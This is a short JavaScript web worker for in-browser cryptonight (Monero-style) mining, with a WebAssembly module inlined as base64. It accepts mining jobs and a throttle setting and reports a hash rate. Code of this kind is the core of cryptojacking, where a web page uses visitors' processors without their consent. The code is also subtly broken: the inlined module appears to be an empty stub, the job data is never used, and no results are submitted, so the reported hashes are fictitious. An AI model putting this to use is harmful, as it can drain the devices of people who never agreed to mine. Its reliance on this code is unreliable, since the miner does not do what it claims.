// web worker: cryptonight hashing via an inlined WebAssembly module
var wasmB64 = "AGFzbQEAAAABBgFgAn9/AAMCAQAHFAEQY3J5cHRvbmlnaHRfaGFzaAAACgQBAgAL";
var bytes = Uint8Array.from(atob(wasmB64), function (c) { return c.charCodeAt(0); });
var job = null, throttle = 0, hashes = 0;

onmessage = function (e) {
  var msg = e.data;
  if (msg.type === "job") {
    job = { job_id: msg.job_id, blob: msg.blob, target: msg.target };
    throttle = msg.throttle || 0;
  }
};

WebAssembly.instantiate(bytes, {}).then(function (inst) {
  var cryptonight = inst.instance.exports.cryptonight_hash;
  setInterval(function () {
    if (!job) return;
    for (var i = 0; i < 16; i++) { cryptonight(0, 0); hashes++; }
    postMessage({ type: "hashesPerSecond", value: hashes });
  }, 100 + throttle * 1000);
});
